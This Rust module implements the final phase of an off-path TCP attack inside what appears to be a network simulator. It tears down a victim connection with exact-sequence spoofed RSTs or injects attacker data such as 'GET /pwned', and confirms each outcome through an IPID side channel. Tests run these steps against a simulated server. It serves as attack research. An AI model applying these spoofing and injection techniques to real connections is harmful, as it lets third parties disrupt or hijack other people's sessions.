//! Final off-path actions once the four-tuple, `rcv_nxt`, and the ACK
//! boundary are known: tear the connection down with an exact-sequence RST,
//! or slip attacker data into the stream, then verify through the same
//! IPID side channel that carried the inference.

use std::net::Ipv4Addr;

use crate::attacker::observe::ObservationStream;
use crate::attacker::seqinfer::detect_exact_seq;
use crate::attacker::{AttackConfig, AttackerIo, FailureReason, Phase};
use crate::net::packet::{Packet, TcpFlags, TcpSegment};

const PAIR_SPACING_MS: u64 = 25;

/// Re-reads of a lost counter view before a verdict is abandoned. Retries
/// wait out the challenge limiter first: the lost read may have consumed
/// it, and an early re-read would mistake a live connection for a dead one.
const SPAN_RETRIES: u32 = 4;

fn rst_exact(cfg: &AttackConfig, port: u16, seq: u32) -> Packet {
    let seg = TcpSegment::new(port, cfg.server_port, seq, 0, TcpFlags::RST);
    Packet::tcp(cfg.client, cfg.server, 0, true, seg)
}

fn payload_segment(cfg: &AttackConfig, port: u16, seq: u32, ack: u32, payload: &[u8]) -> Packet {
    let mut seg =
        TcpSegment::new(port, cfg.server_port, seq, ack, TcpFlags::PSH | TcpFlags::ACK);
    seg.payload = payload.to_vec();
    Packet::tcp(cfg.client, cfg.server, 0, true, seg)
}

fn rearm(io: &mut AttackerIo<'_>, cfg: &AttackConfig, stream: &mut ObservationStream) {
    let t = io.now() + cfg.challenge_ack_interval_ms + 20;
    stream.pump_until(io, t);
}

/// Surplus increments around a short probe burst (None = cut echoes lost).
fn burst_extra(
    io: &mut AttackerIo<'_>,
    stream: &mut ObservationStream,
    probes: &[Packet],
    spacing_ms: u64,
) -> Option<i64> {
    let cut_a = stream.last_sent();
    for (i, p) in probes.iter().enumerate() {
        if i > 0 {
            stream.pump_until(io, io.now() + spacing_ms);
        }
        io.send(p.clone());
    }
    let cut_b = stream.pump_one_echo(io);
    let deadline = stream.sent_time(cut_b) + io.settle_ms() + 40;
    stream.settle_extra(io, cut_a, cut_b, deadline)
}

/// Is the connection still alive? A spoofed SYN/ACK on its tuple draws a
/// challenge ACK while it lives and a zero-IPID socketless RST once it is
/// gone, so one surplus increment means "alive". `None` = cuts lost.
fn connection_alive(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    stream: &mut ObservationStream,
    port: u16,
) -> Option<bool> {
    let seg = TcpSegment::new(port, cfg.server_port, 1, 1, TcpFlags::SYN | TcpFlags::ACK);
    let probe = Packet::tcp(cfg.client, cfg.server, 0, true, seg);
    let d = burst_extra(io, stream, &[probe.clone(), probe], PAIR_SPACING_MS)?;
    Some(d >= 1)
}

/// Send the exact-sequence RST pair and verify the teardown through the
/// side channel. If the connection still answers, re-derive `rcv_nxt` once
/// (it may have moved) and try again; a second survival is reported as a
/// stale inference.
pub fn execute_reset(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    probe_src: Ipv4Addr,
    port: u16,
    rcv_nxt: u32,
    seq_acc: u32,
    ack_ch: u32,
) -> Result<(), FailureReason> {
    let deadline = io.now() + cfg.timeout(Phase::Execute);
    let icmp_id = 0x7006 | ((io.packets_sent() as u16 & 0xff) << 4);
    let mut stream = ObservationStream::begin(io, probe_src, cfg.server, icmp_id, cfg.echo_interval_ms);
    stream.pump_until(io, io.now() + cfg.echo_interval_ms * 2);

    let mut seq = rcv_nxt;
    for attempt in 0..2 {
        io.send(rst_exact(cfg, port, seq));
        stream.pump_until(io, io.now() + PAIR_SPACING_MS);
        io.send(rst_exact(cfg, port, seq));
        // the RST is silent either way; let the limiter recover so a live
        // connection cannot hide behind a suppressed challenge
        rearm(io, cfg, &mut stream);

        let mut alive = None;
        for check in 0..=SPAN_RETRIES {
            if check > 0 {
                rearm(io, cfg, &mut stream);
            }
            alive = connection_alive(io, cfg, &mut stream, port);
            if alive.is_some() {
                break;
            }
        }
        match alive {
            Some(false) => return Ok(()),
            Some(true) if attempt == 0 => {
                io.note("reset did not land; re-deriving the window edge");
                rearm(io, cfg, &mut stream);
                seq = detect_exact_seq(io, cfg, probe_src, port, seq_acc, ack_ch)?;
                // the verification stream idled during the re-derivation;
                // restart its cadence from now instead of bursting catch-ups
                stream.realign(io.now());
            }
            Some(true) => return Err(FailureReason::Stale),
            None => return Err(FailureReason::Ambiguous),
        }
        if io.now() > deadline {
            return Err(FailureReason::Timeout(Phase::Execute));
        }
    }
    Err(FailureReason::Stale)
}

/// Inject `payload` at the left window edge. The first copy is delivered
/// and acknowledged (one data ACK); the second copy then sits below the
/// advanced window and draws an unlimited duplicate ACK — two surplus
/// increments together confirm delivery, while a rejected ACK value leaves
/// the span silent.
pub fn execute_injection(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    probe_src: Ipv4Addr,
    port: u16,
    rcv_nxt: u32,
    snd_una: u32,
    payload: &[u8],
) -> Result<(), FailureReason> {
    assert!(!payload.is_empty(), "injection needs at least one byte");
    let deadline = io.now() + cfg.timeout(Phase::Execute);
    let icmp_id = 0x7007 | ((io.packets_sent() as u16 & 0xff) << 4);
    let mut stream = ObservationStream::begin(io, probe_src, cfg.server, icmp_id, cfg.echo_interval_ms);
    stream.pump_until(io, io.now() + cfg.echo_interval_ms * 2);

    for attempt in 0..=SPAN_RETRIES {
        if attempt > 0 {
            rearm(io, cfg, &mut stream);
        }
        let pair = [
            payload_segment(cfg, port, rcv_nxt, snd_una, payload),
            payload_segment(cfg, port, rcv_nxt, snd_una, payload),
        ];
        match burst_extra(io, &mut stream, &pair, PAIR_SPACING_MS) {
            Some(d) if d >= 2 => return Ok(()),
            Some(_) => io.note("injection drew no delivery acknowledgment; retrying"),
            None => {}
        }
        if io.now() > deadline {
            return Err(FailureReason::Timeout(Phase::Execute));
        }
    }
    Err(FailureReason::BadAck)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::net::rng::{stream_rng, StreamId};
    use crate::net::sim::{AddrSet, HostId, Simulation};
    use crate::victim::endpoint::{EndpointConfig, FourTuple};
    use crate::victim::host::VictimHost;
    use crate::victim::ipid::PolicyVariant;
    use crate::victim::pmtud::PmtudConfig;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    const SERVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const CLIENT: Ipv4Addr = Ipv4Addr::new(172, 16, 0, 9);
    const POOL: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 0);
    const PORT: u16 = 41_001;
    const RCV_NXT: u32 = 0x6161_0000;
    const SND_UNA: u32 = 0x1b2b_3b4b;

    fn build(seed: u64) -> (Simulation, HostId, HostId, AttackConfig, FourTuple) {
        let mut sim = Simulation::new(stream_rng(seed, StreamId::LinkLoss), false);
        let mut ecfg = EndpointConfig::default();
        ecfg.listening_ports.insert(22);
        let mut victim = VictimHost::new(
            SERVER,
            PolicyVariant::MixedDfBased,
            ecfg,
            PmtudConfig::default(),
            ChaCha8Rng::seed_from_u64(seed ^ 0xe5e5),
        );
        let tuple = FourTuple { peer_addr: CLIENT, peer_port: PORT, local_port: 22 };
        victim.install_established(tuple, RCV_NXT.wrapping_sub(1), RCV_NXT, SND_UNA, SND_UNA);
        // challenge ACKs toward the client must ride the shared counters
        victim.routes_mut().set(
            CLIENT,
            crate::victim::pmtud::RouteCacheEntry { pmtu: 552, df_cleared: true },
        );
        let vid = sim.add_reactive_host("server", AddrSet::single(SERVER), Box::new(victim));
        let mut addrs = AddrSet::single(POOL);
        addrs.add_block(POOL, 4096);
        let aid = sim.add_mailbox_host("attacker", addrs);
        let cfg = AttackConfig::new(SERVER, 22, CLIENT, POOL, 4096);
        (sim, vid, aid, cfg, tuple)
    }

    fn collider_for(sim: &Simulation, vid: HostId, cfg: &AttackConfig) -> Ipv4Addr {
        let v = sim.host_state::<VictimHost>(vid).unwrap();
        let want = v.assigner().index_for(SERVER, CLIENT, crate::net::packet::Protocol::Tcp);
        (0..cfg.addr_pool_size)
            .map(|i| cfg.pool_addr(i))
            .find(|c| v.assigner().index_for(SERVER, *c, crate::net::packet::Protocol::Icmp) == want)
            .expect("pool of 4096 should collide somewhere")
    }

    #[test]
    fn reset_with_exact_seq_kills_connection_and_verifies() {
        let (mut sim, vid, aid, cfg, tuple) = build(61);
        let collider = collider_for(&sim, vid, &cfg);
        let mut io = AttackerIo::new(&mut sim, aid);
        io.measure_rtt(POOL, SERVER);
        let r = execute_reset(
            &mut io,
            &cfg,
            collider,
            PORT,
            RCV_NXT,
            RCV_NXT.wrapping_add(1000),
            SND_UNA.wrapping_sub(100_000),
        );
        assert_eq!(r, Ok(()));
        let v = sim.host_state::<VictimHost>(vid).unwrap();
        assert!(v.endpoint().conn(&tuple).is_none(), "connection must be gone");
    }

    #[test]
    fn reset_with_wrong_seq_rederives_and_then_succeeds() {
        let (mut sim, vid, aid, cfg, tuple) = build(62);
        let collider = collider_for(&sim, vid, &cfg);
        let mut io = AttackerIo::new(&mut sim, aid);
        io.measure_rtt(POOL, SERVER);
        // off-by-a-lot first guess: in-window but inexact, so the first RST
        // only draws a challenge and the teardown must re-derive the edge
        let seq_acc = RCV_NXT.wrapping_add(50_000);
        let ack_ch = SND_UNA.wrapping_sub(100_000);
        let r = execute_reset(&mut io, &cfg, collider, PORT, seq_acc, seq_acc, ack_ch);
        assert_eq!(r, Ok(()));
        let v = sim.host_state::<VictimHost>(vid).unwrap();
        assert!(v.endpoint().conn(&tuple).is_none());
    }

    #[test]
    fn injection_delivers_payload_with_correct_values() {
        let (mut sim, vid, aid, cfg, tuple) = build(63);
        let collider = collider_for(&sim, vid, &cfg);
        let mut io = AttackerIo::new(&mut sim, aid);
        io.measure_rtt(POOL, SERVER);
        let payload = b"GET /pwned HTTP/1.1\r\n\r\n";
        let r = execute_injection(&mut io, &cfg, collider, PORT, RCV_NXT, SND_UNA, payload);
        assert_eq!(r, Ok(()));
        let v = sim.host_state::<VictimHost>(vid).unwrap();
        let conn = v.endpoint().conn(&tuple).expect("connection survives injection");
        assert_eq!(conn.received, payload.to_vec());
        assert_eq!(conn.rcv_nxt, RCV_NXT.wrapping_add(payload.len() as u32));
    }

    #[test]
    fn injection_with_wrong_ack_reports_bad_ack_and_delivers_nothing() {
        let (mut sim, vid, aid, cfg, tuple) = build(64);
        let collider = collider_for(&sim, vid, &cfg);
        let mut io = AttackerIo::new(&mut sim, aid);
        io.measure_rtt(POOL, SERVER);
        // ack far in the "future" zone: silently dropped by the victim
        let bad_ack = SND_UNA.wrapping_add(500_000);
        let r = execute_injection(&mut io, &cfg, collider, PORT, RCV_NXT, bad_ack, b"evil");
        assert_eq!(r, Err(FailureReason::BadAck));
        let v = sim.host_state::<VictimHost>(vid).unwrap();
        let conn = v.endpoint().conn(&tuple).expect("connection survives");
        assert!(conn.received.is_empty(), "nothing may be delivered");
    }
}
